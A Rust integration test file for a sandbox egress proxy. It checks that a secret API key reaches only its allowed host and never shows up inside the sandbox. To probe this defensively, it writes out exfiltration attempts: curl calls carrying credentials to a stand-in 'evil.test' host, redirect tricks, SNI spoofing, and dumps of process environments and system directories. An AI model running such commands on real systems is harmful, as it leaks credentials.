//! Secrets at the egress proxy (issue 16): code inside sees a placeholder, and the proxy adds
//! the value only to requests for the secret's hosts, over TLS it terminated with the room's
//! authority, after checking the upstream's certificate for that host. Every way of getting the
//! value out is tried from inside, then every artifact of the run is searched for it.
//!
//! The upstream is a TLS server on loopback with a certificate from a test authority
//! (`--egress-extra-ca`), standing in for `api.models.test` (`--egress-test-resolve`); a plain
//! HTTP server stands in for `evil.test`, a host the room allows but holds no secret for.
#![allow(clippy::unwrap_used)]

mod common;

use common::*;
use serde_json::Value;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

type Seen = Arc<Mutex<Vec<String>>>;

/// A test authority, and a server configuration for `host` signed by it.
fn authority(host: &str) -> (String, Arc<rustls::ServerConfig>) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca = rcgen::CertificateParams::default();
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca.distinguished_name
        .push(rcgen::DnType::CommonName, "test upstream authority");
    let ca = ca.self_signed(&ca_key).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec![host.to_owned()])
        .unwrap()
        .signed_by(&key, &ca, &ca_key)
        .unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![leaf.der().clone()],
        rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
    )
    .unwrap();
    (ca.pem(), Arc::new(config))
}

/// Reads one request head and its body (by `Content-Length`).
async fn request<S: tokio::io::AsyncRead + Unpin>(conn: &mut S) -> Option<String> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
        match conn.read(&mut chunk).await {
            Ok(0) | Err(_) => return None,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    Some(String::from_utf8_lossy(&buf).into_owned())
}

fn reply(status: &str, headers: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n{headers}\r\n{body}",
        body.len()
    )
}

/// An OpenAI-style answer, and an Anthropic-style stream (usage in its first and last events).
const OPENAI: &str = r#"{"id":"chatcmpl-1","choices":[{"message":{"content":"hi"}}],"usage":{"prompt_tokens":11,"completion_tokens":7,"total_tokens":18}}"#;
const ANTHROPIC: &str = "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":25,\"output_tokens\":1}}}\n\nevent: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":15}}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n";

/// Every request header echoed back as JSON, gzip-compressed whatever the client asked for, in
/// chunks of 7 bytes: the answer of a host that quotes a credential back.
fn echoed(head: &str) -> Vec<u8> {
    use std::io::Write as _;
    let headers: serde_json::Map<String, Value> = head
        .lines()
        .skip(1)
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), Value::from(v.trim())))
        .collect();
    let body = serde_json::json!({ "headers": headers }).to_string();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(body.as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    let mut out =
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n\
Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            .to_vec();
    for chunk in gz.chunks(7) {
        out.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
        out.extend_from_slice(chunk);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

/// The model provider: answers whether the request carried `Bearer <value>`, echoes `/echo`'s
/// headers back ([`echoed`]), and redirects `/redirect` to `evil.test`. Keeps every request
/// head.
async fn upstream(config: Arc<rustls::ServerConfig>, value: String) -> (u16, Seen) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen: Seen = Arc::default();
    let heads = seen.clone();
    let acceptor = tokio_rustls::TlsAcceptor::from(config);
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, heads, value) = (acceptor.clone(), heads.clone(), value.clone());
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let Some(head) = request(&mut tls).await else {
                    return;
                };
                heads.lock().unwrap().push(head.clone());
                let authorized = head.contains(&format!("\r\nauthorization: Bearer {value}\r\n"))
                    || head.contains(&format!("\r\nAuthorization: Bearer {value}\r\n"));
                let answer = if head.starts_with("GET /echo ") {
                    let _ = tls.write_all(&echoed(&head)).await;
                    let _ = tls.shutdown().await;
                    return;
                } else if head.starts_with("GET /redirect ") {
                    reply("302 Found", "Location: http://evil.test/steal\r\n", "")
                } else if authorized && head.starts_with("POST /v1/chat/completions ") {
                    reply("200 OK", "Content-Type: application/json\r\n", OPENAI)
                } else if authorized && head.starts_with("POST /v1/messages ") {
                    reply("200 OK", "Content-Type: text/event-stream\r\n", ANTHROPIC)
                } else if authorized {
                    reply("200 OK", "", "authorized\n")
                } else {
                    reply("401 Unauthorized", "", "no key\n")
                };
                let _ = tls.write_all(answer.as_bytes()).await;
                let _ = tls.shutdown().await;
            });
        }
    });
    (port, seen)
}

/// `evil.test`: plain HTTP, keeps every request head.
async fn evil() -> (u16, Seen) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen: Seen = Arc::default();
    let heads = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut tcp, _)) = listener.accept().await {
            let heads = heads.clone();
            tokio::spawn(async move {
                if let Some(head) = request(&mut tcp).await {
                    heads.lock().unwrap().push(head);
                    let _ = tcp
                        .write_all(reply("200 OK", "", "stolen?\n").as_bytes())
                        .await;
                }
            });
        }
    });
    (port, seen)
}

on_each_backend!(
    secrets_reach_only_their_hosts_and_never_the_sandbox,
    secrets_reach_only_their_hosts_and_never_the_sandbox_on
);

async fn secrets_reach_only_their_hosts_and_never_the_sandbox_on(backend: &Backend) {
    let storage = Storage::new(backend).await;
    let log = storage.dir.path().join("server.log");
    let value = format!("sk-live-{}", uuid::Uuid::new_v4().simple());
    let (ca_pem, config) = authority("api.models.test");
    let ca_file = storage.dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_file, &ca_pem).unwrap();
    let (up_port, up_seen) = upstream(config, value.clone()).await;
    let (evil_port, evil_seen) = evil().await;
    let resolve = format!(
        "api.models.test=127.0.0.1:{up_port},wrongcert.test=127.0.0.1:{up_port},evil.test=127.0.0.1:{evil_port}"
    );
    let ana = storage.token("ana@example.com").await;
    let server = Server::start_logging_with(
        &storage,
        &log,
        &[
            "--egress-test-resolve",
            &resolve,
            "--egress-extra-ca",
            &ca_file.display().to_string(),
            "--egress-audit-every-ms",
            "200",
        ],
    )
    .await;
    let room = create_room(&server, &ana).await;
    let mut seen = String::new();
    let (status, body) = put(
        &server,
        &ana,
        &format!("/api/rooms/{room}/egress"),
        r#"{"allow":["api.models.test","wrongcert.test","evil.test"]}"#,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    for (name, host) in [
        ("MODEL_KEY", "api.models.test"),
        ("WRONG_KEY", "wrongcert.test"),
    ] {
        let (status, body) = post(
            &server,
            &ana,
            &format!("/api/rooms/{room}/secrets"),
            &format!(r#"{{"name":"{name}","value":"{value}","hosts":["{host}"]}}"#),
        )
        .await;
        assert_eq!(status, 201, "{body}");
        seen.push_str(&body.to_string());
    }

    // Code inside sees a placeholder; a request to the secret's host carries the value.
    let placeholder = inside(
        &server,
        &ana,
        &room,
        "printf %s \"$CODEROOM_SECRET_MODEL_KEY\"",
        &mut seen,
    )
    .await;
    assert!(
        placeholder.starts_with("crs_placeholder_MODEL_KEY_"),
        "{placeholder}"
    );
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS https://api.models.test/v1/models 2>&1",
        &mut seen,
    )
    .await;
    assert_eq!(out, "authorized\n");
    // The same from the shared terminal (what it shows is recorded, and searched below).
    let mut t = term(&server, &room, &ana).await;
    t.send(b"printenv CODEROOM_SECRET_MODEL_KEY; curl -sS https://api.models.test/v1/models\r")
        .await;
    t.output_contains("authorized").await;
    assert!(t.output.contains(&placeholder), "{}", tail(&t.output));
    seen.push_str(&t.output);
    drop(t);
    // Written into a header by code inside, the placeholder is swapped too.
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS -H \"Authorization: Bearer $CODEROOM_SECRET_MODEL_KEY\" https://api.models.test/v1/chat 2>&1",
        &mut seen,
    )
    .await;
    assert_eq!(out, "authorized\n");
    assert!(up_seen
        .lock()
        .unwrap()
        .iter()
        .all(|h| !h.contains("crs_placeholder_")));
    // A host that echoes the request back (gzip-compressed though nobody asked, in chunks of
    // 7 bytes) hands back the placeholder, not the value: from an exec, and in the shared
    // terminal (whose recording is searched below).
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS https://api.models.test/echo 2>&1",
        &mut seen,
    )
    .await;
    assert!(
        out.contains(&format!("\"authorization\":\"Bearer {placeholder}\"")),
        "{out}"
    );
    let mut t = term(&server, &room, &ana).await;
    t.send(b"curl -sS https://api.models.test/echo; echo; echo ECHO-$((6*7))\r")
        .await;
    t.output_contains("ECHO-42").await;
    assert!(t.output.contains(&placeholder), "{}", tail(&t.output));
    seen.push_str(&t.output);
    drop(t);
    // Code inside cannot frame the value: the placeholder only as the rule's format, in the
    // rule's header; anything else is refused and sent nowhere.
    let before = up_seen.lock().unwrap().len();
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS -H \"Authorization: x${CODEROOM_SECRET_MODEL_KEY}x\" https://api.models.test/v1/chat 2>&1; echo; \
         curl -sS -H \"X-Api-Key: $CODEROOM_SECRET_MODEL_KEY\" https://api.models.test/v1/chat 2>&1; echo; \
         curl -sS \"https://api.models.test/v1/chat?key=$CODEROOM_SECRET_MODEL_KEY\" 2>&1",
        &mut seen,
    )
    .await;
    assert_eq!(
        out.matches("coderoom egress proxy: the placeholder")
            .count(),
        3,
        "{out}"
    );
    assert_eq!(
        up_seen.lock().unwrap().len(),
        before,
        "a misframed request was sent"
    );
    // What was taken out is counted in the room's chain, by the secret's name (never its value).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let redacted: u64 = audit(&server, &ana, &room)
            .await
            .iter()
            .filter(|r| r["action"] == "egress")
            .filter_map(|r| r["details"]["secrets_redacted"]["MODEL_KEY"].as_u64())
            .sum();
        if redacted >= 2 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the redactions were not audited ({redacted})"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    // A model provider's answers, whole and streamed: their token counts reach the meter.
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS -X POST -H 'Content-Type: application/json' -d '{}' https://api.models.test/v1/chat/completions 2>&1; echo; \
         curl -sS -N -X POST -H 'Content-Type: application/json' -d '{}' https://api.models.test/v1/messages 2>&1",
        &mut seen,
    )
    .await;
    assert!(
        out.contains("\"completion_tokens\":7") && out.contains("message_stop"),
        "{out}"
    );
    // Counted, to whoever ran the command, as each answer ends (which may be a moment after
    // the client has it all).
    let ana_id = me(&server, &ana).await;
    let want = serde_json::json!({ "input": 36, "output": 22 });
    let mut view = Value::Null;
    for _ in 0..100 {
        view = get_json(&server, &ana, &format!("/api/rooms/{room}/egress")).await;
        if view["totals"][&ana_id]["model_tokens"] == want {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(view["totals"][&ana_id]["model_tokens"], want, "{view}");
    // And durably, in the room's audit chain (what spend is summed from).
    let mut summed = Value::Null;
    for _ in 0..100 {
        let (mut input, mut output) = (0, 0);
        for r in audit(&server, &ana, &room).await {
            if r["action"] == "egress" && r["decision"] == "allow" {
                input += r["details"]["model_tokens"]["input"].as_u64().unwrap_or(0);
                output += r["details"]["model_tokens"]["output"].as_u64().unwrap_or(0);
            }
        }
        summed = serde_json::json!({ "input": input, "output": output });
        if summed == want {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(summed, want);
    let rules = get_json(&server, &ana, &format!("/api/rooms/{room}/secrets")).await;
    seen.push_str(&rules.to_string());
    assert!(rules[0]["last_used_at"].as_i64().is_some(), "{rules}");
    let served = up_seen.lock().unwrap().len();

    // Sent anywhere else, the placeholder stays a placeholder: plain HTTP to another host,
    // and a redirect from the secret's host to another host (followed with the header kept).
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS -H \"Authorization: Bearer $CODEROOM_SECRET_MODEL_KEY\" http://evil.test/direct 2>&1; \
         curl -sS -L --location-trusted -H \"Authorization: Bearer $CODEROOM_SECRET_MODEL_KEY\" https://api.models.test/redirect 2>&1; \
         curl -sS -L https://api.models.test/redirect 2>&1",
        &mut seen,
    )
    .await;
    assert_eq!(out.matches("stolen?").count(), 3, "{out}");
    {
        let evil_heads = evil_seen.lock().unwrap();
        assert_eq!(evil_heads.len(), 3, "{evil_heads:?}");
        assert!(evil_heads[0].contains(&placeholder) && evil_heads[1].contains(&placeholder));
        assert!(!evil_heads[2].to_ascii_lowercase().contains("authorization"));
    }
    let served = served + 2;
    assert_eq!(up_seen.lock().unwrap().len(), served);

    // A request in the tunnel for another host gets 421 and goes nowhere; TLS that names another
    // host gets nothing at all; an upstream whose certificate is not for its name gets no
    // request (and so no secret).
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS -o /dev/null -w '%{http_code}' -H 'Host: evil.test' https://api.models.test/v1/models 2>&1",
        &mut seen,
    )
    .await;
    assert_eq!(out, "421");
    let sni = r#"python3 - <<'EOF'
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT api.models.test:443 HTTP/1.1\r\nHost: api.models.test:443\r\n\r\n")
head = s.recv(4096)
print(head.split(b"\r\n")[0].decode(), "CRLF" if head.endswith(b"\r\n\r\n") else "bare LF")
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="evil.test")
    t.sendall(b"GET /v1/models HTTP/1.1\r\nHost: api.models.test\r\n\r\n")
    print("answer:", t.recv(4096))
except (OSError, ssl.SSLError) as e:
    print("closed:", type(e).__name__)
EOF"#;
    let out = inside(&server, &ana, &room, sni, &mut seen).await;
    // The tunnel's answer is a proper HTTP head (some clients wait for CRLF CRLF).
    assert!(
        out.starts_with("HTTP/1.1 200 Connection established CRLF"),
        "{out}"
    );
    assert!(
        out.contains("answer: b''") || out.contains("closed:"),
        "{out}"
    );
    let out = inside(
        &server,
        &ana,
        &room,
        "curl -sS https://wrongcert.test/v1/models 2>&1",
        &mut seen,
    )
    .await;
    assert!(out.contains("502"), "{out}");
    assert_eq!(
        up_seen.lock().unwrap().len(),
        served,
        "a request reached the upstream"
    );

    // Nothing inside holds the value: not the environment of any process, not a file.
    let out = inside(
        &server,
        &ana,
        &room,
        "env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; \
         grep -rs . /run/coderoom /tmp /workspace /etc 2>/dev/null | head -c 2000000; echo done",
        &mut seen,
    )
    .await;
    assert!(
        out.ends_with("done\n") && out.contains(&placeholder),
        "{out}"
    );
    // The refusals and the audit chain.
    let audit = audit(&server, &ana, &room).await;
    seen.push_str(&serde_json::to_string(&audit).unwrap());
    let egress_view = get_json(&server, &ana, &format!("/api/rooms/{room}/egress")).await;
    seen.push_str(&egress_view.to_string());
    let recent: Vec<Value> = egress_view["recent_denied"].as_array().unwrap().clone();
    assert!(
        recent.iter().any(|d| d["reason"]
            .as_str()
            .unwrap()
            .contains("its TLS asked for evil.test")),
        "{egress_view}"
    );
    // A stopped sandbox leaves a snapshot behind: searched below with everything else.
    let (status, _) = post(
        &server,
        &ana,
        &format!("/api/rooms/{room}/sandbox/stop"),
        "{}",
    )
    .await;
    assert_eq!(status, 200);
    assert!(server.terminate().await.success());

    assert!(
        !seen.contains(&value),
        "an answer or an output carried the value"
    );
    assert!(
        std::fs::metadata(&log).unwrap().len() > 1000,
        "the debug log is missing"
    );
    let all = no_file_holds(storage.dir.path(), &value);
    for kind in ["snapshot", "recordings"] {
        assert!(
            all.iter().any(|f| f.to_string_lossy().contains(kind)),
            "no {kind} among {all:?}"
        );
    }
}

/// The first command of a room, from the warm pool: a room without secrets tells the sandbox
/// nothing at its start (nothing of its is intercepted) and a secret added later reaches it;
/// a room with a secret before its first command has its variable and authority in place for
/// that command.
#[tokio::test]
async fn a_warm_sandbox_gets_its_rooms_secrets() {
    let storage = Storage::new(&Backend::Sqlite).await;
    let value = format!("sk-live-{}", uuid::Uuid::new_v4().simple());
    let (ca_pem, config) = authority("api.models.test");
    let ca_file = storage.dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_file, &ca_pem).unwrap();
    let (up_port, _) = upstream(config, value.clone()).await;
    let resolve = format!("api.models.test=127.0.0.1:{up_port}");
    let ana = storage.token("ana@example.com").await;
    let server = Server::start(
        &storage,
        &[
            "--egress-test-resolve",
            &resolve,
            "--egress-extra-ca",
            &ca_file.display().to_string(),
            "--sandbox-warm-pool",
            "1",
        ],
    )
    .await;
    let prepare = |room: String| {
        let (server, ana) = (&server, &ana);
        async move {
            let path = format!("/api/rooms/{room}/egress");
            let (status, body) = put(server, ana, &path, r#"{"allow":["api.models.test"]}"#).await;
            assert_eq!(status, 200, "{body}");
            room
        }
    };
    let add_secret = |room: String| {
        let (server, ana, value) = (&server, &ana, &value);
        async move {
            let (status, body) = post(
                server,
                ana,
                &format!("/api/rooms/{room}/secrets"),
                &format!(r#"{{"name":"MODEL_KEY","value":"{value}","hosts":["api.models.test"]}}"#),
            )
            .await;
            assert_eq!(status, 201, "{body}");
        }
    };
    let curl = "printenv CODEROOM_SECRET_MODEL_KEY | cut -c1-25; \
                curl -sS -H \"Authorization: Bearer $CODEROOM_SECRET_MODEL_KEY\" \
                https://api.models.test/v1/models 2>&1";
    let from_pool = |room: String| {
        let (server, ana) = (&server, &ana);
        async move {
            let path = format!("/api/rooms/{room}/sandbox");
            get_json(server, ana, &path).await["from_warm_pool"] == true
        }
    };

    // Without secrets: no variable; a secret added while it runs reaches it.
    let room = prepare(create_room(&server, &ana).await).await;
    pool_holds(&server, 1).await;
    let (_, out) = exec(&server, &ana, &room, "printenv | grep -c CODEROOM_SECRET_").await;
    assert_eq!(out["stdout"], "0\n", "{out}");
    assert!(from_pool(room.clone()).await);
    add_secret(room.clone()).await;
    let (_, out) = exec(&server, &ana, &room, curl).await;
    assert_eq!(
        out["stdout"], "crs_placeholder_MODEL_KEY\nauthorized\n",
        "{out}"
    );

    // With a secret before its first command: in place for that command.
    let other = prepare(create_room(&server, &ana).await).await;
    add_secret(other.clone()).await;
    pool_holds(&server, 1).await;
    let (_, out) = exec(&server, &ana, &other, curl).await;
    assert_eq!(
        out["stdout"], "crs_placeholder_MODEL_KEY\nauthorized\n",
        "{out}"
    );
    assert!(from_pool(other).await);
}
